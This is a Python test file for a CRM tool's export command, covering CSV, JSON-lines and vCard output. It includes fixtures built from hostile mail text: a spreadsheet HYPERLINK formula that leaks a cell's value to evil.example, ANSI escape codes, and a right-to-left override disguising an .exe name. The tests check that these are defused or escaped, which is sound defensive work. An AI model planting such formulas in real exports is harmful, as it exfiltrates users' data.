"""`crmlog export`: every kind in CSV and JSON lines against the listings' `--json`, vCards
read back with vobject, text from mail kept exactly, CSV injection defused, --output."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import shutil
import stat
from datetime import datetime

import pytest
import vobject
from conftest import LOG, SAMPLES, eml, make_maildir

from crmlog.records import Contact
from crmlog.show import exports

LI = "li.wei@acme-industrial.com"
# a comma, a quote, a line break, rich markup, an ESC sequence and a bidi override
HOSTILE_SUBJECT = 'Quote, "final"\nsecond line [red]not red[/red] \x1b[31mESC\x1b[0m \u202egnp.exe'
FORMULA_SUBJECT = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture(autouse=True)
def _not_forced_to_a_terminal(monkeypatch):
    monkeypatch.delenv("TTY_COMPATIBLE", raising=False)


@pytest.fixture
def samples(cli):
    """The README's sample run: the sample team, deals and mbox."""
    shutil.copy(SAMPLES / "config.toml", cli.config.parent.mkdir(parents=True) or cli.config)
    cli("users", "add", "anna@ourco.example", "--name", "Anna Schmidt", "--inbox", "anna@ourco.example")
    cli("users", "add", "ben@ourco.example", "--name", "Ben Li", "--seat", "read-only")
    cli("team-inboxes", "add", "sales@ourco.example", "--connected-by", "anna@ourco.example")
    cli("deals", "add", "Acme pilot", "--contact", LI, "--created", "2026-05-01T10:00:00Z")
    cli("deals", "add", "Acme framework", "--contact", LI, "--stage", "won", "--created", "2026-03-01T10:00:00Z")
    cli("ingest", SAMPLES / "mailbox.mbox", "--quiet")
    return cli


@pytest.fixture
def hostile(team, tmp_path):
    """Two logged e-mails: one whose subject and contact name carry what a CSV, a terminal or
    rich could misread; one whose subject and contact name are spreadsheet formulas."""
    word = "=?utf-8?b?" + base64.b64encode(HOSTILE_SUBJECT.encode()).decode() + "?="
    name = '"Wei, \x1bLi; [b]x[/b]"'  # raw in a quoted string, as a careless client writes it
    first = eml(to="NAME <li.wei@acme.example>", bcc=LOG, subject="SUBJECT", message_id="<h1@ourco.example>")
    second = eml(
        to='"@SUM(1+1)" <sum@globex.example>',
        bcc=LOG,
        subject=FORMULA_SUBJECT,
        message_id="<h2@ourco.example>",
        attachments=[("quote, v2.pdf", "application/pdf", b"%PDF-1.4 quote")],
    )
    first = first.replace(b"SUBJECT", word.encode()).replace(b"NAME", name.encode())
    box = make_maildir(tmp_path / "Maildir", {".Sent": [("1:2,S", first), ("2:2,S", second)]})
    team("ingest", box, "--quiet")
    return team


def exported(cli, kind: str, fmt: str = "csv") -> str:
    """The export as written (Click's `stdout` would turn CSV's CRLF into LF)."""
    result = cli("export", kind, "--format", fmt)
    return result.stdout_bytes.decode("utf-8")


def csv_rows(cli, kind: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported(cli, kind), newline="")))


def jsonl_rows(cli, kind: str) -> list[dict]:
    return [json.loads(line) for line in exported(cli, kind, "jsonl").split("\n") if line]  # not splitlines: U+2028


def cells(row: dict, columns) -> dict[str, str]:
    """A --json row as the export's CSV writes it: lists joined with `;`, None empty."""

    def cell(value) -> str:
        if value is None:
            return ""
        if isinstance(value, list):
            return ";".join(map(str, value))
        return str(value)

    return {c: cell(row[c]) for c in columns}


# ------------------------------------------------------------------ every kind, both formats


def test_contacts_csv_and_jsonl_hold_what_contacts_list_shows(samples):
    listed = sorted(samples.json("contacts", "list"), key=lambda r: r["email"])
    shown = ["email", "name", "company", "source", "emails"]  # the listing has no created or aliases
    assert len(listed) == 4
    by_csv = sorted(csv_rows(samples, "contacts"), key=lambda r: r["email"])
    by_jsonl = sorted(jsonl_rows(samples, "contacts"), key=lambda r: r["email"])
    assert all(list(r) == list(exports.COLUMNS["contacts"]) for r in by_csv + by_jsonl)
    assert [{c: r[c] for c in shown} for r in by_csv] == [cells(r, shown) for r in listed]
    assert [{c: r[c] for c in shown} for r in by_jsonl] == [{c: r[c] for c in shown} for r in listed]
    assert all(r["aliases"] == "" and datetime.fromisoformat(r["created"]).tzinfo for r in by_csv)
    assert all(r["aliases"] == [] and datetime.fromisoformat(r["created"]).tzinfo for r in by_jsonl)


def test_companies_csv_and_jsonl_hold_what_companies_list_shows(samples):
    listed = sorted(samples.json("companies", "list"), key=lambda r: r["domain"])
    columns = list(exports.COLUMNS["companies"])
    assert listed and all(set(r) >= set(columns) for r in listed)
    assert sorted(csv_rows(samples, "companies"), key=lambda r: r["domain"]) == [cells(r, columns) for r in listed]
    assert sorted(jsonl_rows(samples, "companies"), key=lambda r: r["domain"]) == [
        {c: r[c] for c in columns} for r in listed
    ]


def test_deals_csv_and_jsonl_hold_what_deals_list_shows_in_id_order(samples):
    listed = sorted(samples.json("deals", "list"), key=lambda r: r["id"])
    columns = list(exports.COLUMNS["deals"])
    assert [r["name"] for r in listed] == ["Acme pilot", "Acme framework"]
    assert csv_rows(samples, "deals") == [cells(r, columns) for r in listed]
    assert jsonl_rows(samples, "deals") == [{c: r[c] for c in columns} for r in listed]


def test_emails_csv_and_jsonl_hold_what_emails_list_shows_in_id_order(samples):
    listed = sorted(samples.json("emails", "list"), key=lambda r: r["id"])
    columns = list(exports.COLUMNS["emails"])
    assert len(listed) == 6 and any(r["attachments"] for r in listed)
    rows = csv_rows(samples, "emails")
    assert [int(r["id"]) for r in rows] == [r["id"] for r in listed]
    for row, want in zip(rows, listed, strict=True):
        assert row == {**cells(want, columns), "attachments": str(len(want["attachments"]))}  # CSV: a count
    # JSON lines: the list, each {filename, content_type, size, sha256, stored}
    assert jsonl_rows(samples, "emails") == [{c: r[c] for c in columns} for r in listed]
    assert all(
        set(a) == {"filename", "content_type", "size", "sha256", "stored"} for r in listed for a in r["attachments"]
    )


def test_csv_is_rfc_4180_a_header_row_and_crlf_rows(samples):
    text = exported(samples, "deals")
    assert text.startswith("id,name,stage,created,contacts\r\n")
    assert text.count("\r\n") == 3 and text.endswith("\r\n")


def test_stdout_holds_the_data_only_and_stderr_says_what_was_exported(samples):
    result = samples("export", "emails", "--format", "jsonl")
    assert len(result.stdout.splitlines()) == 6
    assert result.stderr.startswith("exported 6 e-mails to stdout in ") and result.stderr.count("\n") == 1
    assert samples("export", "companies").stderr.startswith("exported 3 companies to stdout in ")


# ------------------------------------------------------------------ vCard


def test_vcard_has_a_card_per_contact_with_fn_email_and_org(samples):
    contacts = {r["email"]: r for r in samples.json("contacts", "list")}
    companies = {r["domain"]: r["name"] for r in samples.json("companies", "list")}
    text = exported(samples, "contacts", "vcard")
    assert text.startswith("BEGIN:VCARD\r\nVERSION:3.0\r\n")
    cards = list(vobject.readComponents(text))
    assert len(cards) == len(contacts)
    for card in cards:
        email = card.email.value
        assert card.fn.value == (contacts[email]["name"] or email)
        assert [e.value for e in card.contents["email"]] == [email]
        company = contacts[email]["company"]
        assert (card.org.value if "org" in card.contents else None) == ([companies[company]] if company else None)
    hans = next(c for c in cards if c.email.value == "hans.mueller@beispiel-gmbh.de")
    assert hans.fn.value == "Hans Müller"


def test_a_merged_contacts_addresses_are_its_aliases_and_more_vcard_emails(samples):
    samples("contacts", "merge", "maria.rossi@gmail.com", LI, "--yes")  # LIFE-4
    samples("contacts", "merge", "hans.mueller@beispiel-gmbh.de", LI, "--yes")
    aliases = ["maria.rossi@gmail.com", "hans.mueller@beispiel-gmbh.de"]
    card = next(c for c in vobject.readComponents(exported(samples, "contacts", "vcard")) if c.fn.value == "Li Wei")
    assert [e.value for e in card.contents["email"]] == [LI, *aliases]
    assert card.email.params["TYPE"] == ["INTERNET", "PREF"]  # the contact's own address first, preferred
    row = next(r for r in csv_rows(samples, "contacts") if r["email"] == LI)
    assert row["aliases"] == ";".join(aliases)
    assert next(r for r in jsonl_rows(samples, "contacts") if r["email"] == LI)["aliases"] == aliases


def test_vcard_escapes_commas_and_semicolons_and_leaves_control_characters_out(hostile):
    by_email = {c.email.value: c for c in vobject.readComponents(exported(hostile, "contacts", "vcard"))}
    assert by_email["li.wei@acme.example"].fn.value == "Wei, Li; [b]x[/b]"  # the ESC is not vCard text
    assert by_email["sum@globex.example"].fn.value == "@SUM(1+1)"  # no spreadsheet reads a vCard


def test_vcards_of_contacts_of_every_shape_are_those_of_a_new_card_each():
    """write_vcards writes one card per shape again with each contact's values: the cards are
    those a new vobject card per contact makes, whatever came before."""
    contacts = [
        Contact(email="a@acme.example", name='Ann, A.; "x"\nB', company="acme.example"),
        Contact(email="b@gmail.com", name=""),
        Contact(email="c@acme.example", name="Cy", company="acme.example", aliases=("c2@acme.example",)),
        Contact(email="d@other.example", name="Di", company="other.example"),
        Contact(email="e@gmail.com", name="Ed", aliases=("e2@gmail.com", "e3@gmail.com")),
        Contact(email="f@acme.example", name="Fay", company="acme.example"),
    ]
    companies = {"acme.example": "Acme, Inc.; Pumps", "other.example": "other.example"}
    out = io.StringIO()
    assert exports.write_vcards(contacts, companies, out) == len(contacts)
    fresh = io.StringIO()
    for c in contacts:
        card = vobject.vCard()
        card.add("n").value = vobject.vcard.Name()
        card.add("fn").value = c.name or c.email
        for address in (c.email, *c.aliases):
            card.add("email").type_paramlist = ["INTERNET", "PREF"] if address == c.email else ["INTERNET"]
            card.contents["email"][-1].value = address
        if c.company:
            card.add("org").value = [companies[c.company]]
        card.serialize(buf=fresh)
    assert out.getvalue() == fresh.getvalue()
    back = list(vobject.readComponents(out.getvalue()))
    assert [c.fn.value for c in back] == [c.name or c.email for c in contacts]
    assert back[0].org.value == ["Acme, Inc.; Pumps"] and "org" not in back[1].contents


@pytest.mark.parametrize("kind", ["companies", "deals", "emails"])
def test_vcard_of_anything_but_contacts_is_a_usage_error(samples, kind):
    result = samples("export", kind, "--format", "vcard", expect=2)
    assert result.stdout == "" and "contacts only" in result.stderr


# ------------------------------------------------------------------ text from mail


def test_hostile_subject_and_name_round_trip_exactly_through_csv_and_jsonl(hostile):
    listed = {r["message_id"]: r for r in hostile.json("emails", "list")}
    assert listed["h1@ourco.example"]["subject"] == HOSTILE_SUBJECT  # as ingest stored it
    for rows in (csv_rows(hostile, "emails"), jsonl_rows(hostile, "emails")):
        assert next(r for r in rows if r["message_id"] == "h1@ourco.example")["subject"] == HOSTILE_SUBJECT
    names = {r["email"]: r["name"] for r in hostile.json("contacts", "list")}
    for rows in (csv_rows(hostile, "contacts"), jsonl_rows(hostile, "contacts")):
        assert next(r for r in rows if r["email"] == "li.wei@acme.example")["name"] == names["li.wei@acme.example"]
    assert "\x1b" in names["li.wei@acme.example"]


def test_jsonl_escapes_what_a_terminal_would_act_on_as_json_escapes(hostile):
    text = exported(hostile, "emails", "jsonl")
    assert "\x1b" not in text and "\u202e" not in text
    assert "\\u001b" in text and "\\u202e" in text


def test_csv_defuses_formulas_with_a_quote_and_jsonl_keeps_them_exact(hostile):
    row = next(r for r in csv_rows(hostile, "emails") if r["message_id"] == "h2@ourco.example")
    assert row["subject"] == "'" + FORMULA_SUBJECT
    assert row["attachments"] == "1"
    contact = next(r for r in csv_rows(hostile, "contacts") if r["email"] == "sum@globex.example")
    assert contact["name"] == "'@SUM(1+1)"
    assert next(r for r in jsonl_rows(hostile, "emails") if r["id"] == 2)["subject"] == FORMULA_SUBJECT
    assert next(r for r in jsonl_rows(hostile, "contacts") if r["email"] == "sum@globex.example")["name"] == (
        "@SUM(1+1)"
    )


@pytest.mark.parametrize("text", ["=1+2", "+1 555", "-2", "@A1", "\tx", "\rx"])
def test_csv_cell_quotes_every_start_of_a_formula(text):
    assert exports.csv_cell(text) == "'" + text
    assert exports.csv_cell([text, "b"]) == "'" + text + ";b"
    assert exports.csv_cell(-2) == "-2"  # a number is not text a spreadsheet could run


def test_csv_on_a_terminal_shows_control_characters_escaped(hostile):
    status, shown = hostile.terminal("export", "emails", columns=400)
    assert status == 0
    assert "\x1b" not in shown and "\u202e" not in shown
    assert "\\x1b[31mESC" in shown and "\\u202egnp.exe" in shown


# ------------------------------------------------------------------ streamed


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_each_row_is_written_before_the_next_is_read(fmt):
    out = io.StringIO()
    written: list[int] = []

    def rows():
        for n in range(3):
            written.append(len(out.getvalue()))
            yield {"id": n, "name": f"deal {n}", "stage": "open", "created": "2026-01-01", "contacts": ["a@b.example"]}

    if fmt == "csv":
        assert exports.write_csv(rows(), exports.COLUMNS["deals"], out) == 3
    else:
        assert exports.write_jsonl(rows(), out) == 3
    assert written[0] < written[1] < written[2] < len(out.getvalue())


# ------------------------------------------------------------------ exits and files


def test_missing_database_exits_66_and_writes_no_file(cli, tmp_path):
    target = tmp_path / "contacts.csv"
    result = cli("export", "contacts", "--output", target, expect=66)
    # a server's database without the schema: "no crmlog database in postgresql://..."
    assert ("no database" in result.stderr or "no crmlog database" in result.stderr) and not target.exists()


def test_output_file_is_owner_only_and_stdout_stays_empty(samples, tmp_path):
    target = tmp_path / "emails.jsonl"
    target.write_text("an older export\n")
    target.chmod(0o644)
    result = samples("export", "emails", "--format", "jsonl", "--output", target)
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
    assert result.stdout == ""
    assert result.stderr.startswith(f"exported 6 e-mails to {target} in ")
    assert len(target.read_text().splitlines()) == 6
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".emails")) == []  # no temporary left


def test_output_in_a_missing_directory_exits_74(samples, tmp_path):
    result = samples("export", "deals", "--output", tmp_path / "missing" / "deals.csv", expect=74)
    assert "cannot write" in result.stderr
